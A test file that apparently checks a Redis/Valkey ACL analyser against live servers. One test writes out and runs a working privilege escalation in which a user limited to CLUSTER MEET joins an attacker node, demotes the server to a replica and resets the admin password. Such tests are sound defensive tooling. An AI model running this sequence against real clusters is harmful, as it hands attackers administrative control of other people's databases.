import { expect, describe, test } from 'vitest'
import { scriptText } from '../../src/analysis/ways/script'
import { aclOf, engineOn, follow, rows, wayOf } from '../analysis/ways/rows'
import { RawClient } from '../analysis/ways/attacker'
import { installedOracles, LiveServer } from './oracle'

describe.each(installedOracles())('$program', ({ program, target }) => {
  test.each(rows.filter(({ targets }) => targets?.includes(target) ?? true))(
    '$name: the script runs on the real server',
    async (row) => {
      const engine = await engineOn(target, aclOf(row), row.conf)
      const options = (row.conf ?? []).flatMap((line) => {
        const [name = '', ...values] = line.split(' ')
        return [`--${name}`, ...values.map((value) => (value === '""' ? '' : value))]
      })
      const server = await LiveServer.start(program, options, { acl: aclOf(row) })
      try {
        await follow(row, engine, server.port)
      } finally {
        await server.stop()
      }
    },
  )

  test('a node that CLUSTER MEET brings in claims all slots, and becomes the primary', async () => {
    const acl = 'user default off\nuser admin on >admin-password ~* &* +@all\nuser app on >app-password +cluster|meet\n'
    const conf = ['cluster-enabled yes']
    const engine = await engineOn(target, acl, conf)
    const way = wayOf(engine, 'app', { become: 'admin' })
    expect(way?.lines.map((line) => scriptText(engine, line))).toEqual([
      'their node> CLUSTER ADDSLOTSRANGE 0 16383',
      'their node> CLUSTER SET-CONFIG-EPOCH 9999',
      'app> CLUSTER MEET 203.0.113.9 6379',
      'their primary> ACL SETUSER admin on >chosen-password',
      'app> AUTH admin chosen-password',
    ])
    const cluster = ['--cluster-enabled', 'yes', '--cluster-node-timeout', '2000']
    const [server, own] = await Promise.all([
      LiveServer.start(program, cluster, { acl }),
      LiveServer.start(program, cluster),
    ])
    const [admin, app, node] = [new RawClient(server.port), new RawClient(server.port), new RawClient(own.port)]
    try {
      await admin.send(['AUTH', 'admin', 'admin-password'])
      await admin.send(['CLUSTER', 'ADDSLOTSRANGE', '0', '16383'])
      await node.send(['CLUSTER', 'ADDSLOTSRANGE', '0', '16383'])
      await node.send(['CLUSTER', 'SET-CONFIG-EPOCH', '9999'])
      await app.send(['AUTH', 'app', 'app-password'])
      await app.send(['CLUSTER', 'MEET', '127.0.0.1', String(own.port)])
      await expect
        .poll(() => admin.send(['ROLE']), { timeout: 20_000, interval: 50 })
        .toContain(`slave\r\n$9\r\n127.0.0.1\r\n:${own.port}`)
    } finally {
      for (const client of [admin, app, node]) client.close()
      await Promise.all([server.stop(), own.stop()])
    }
  })
})
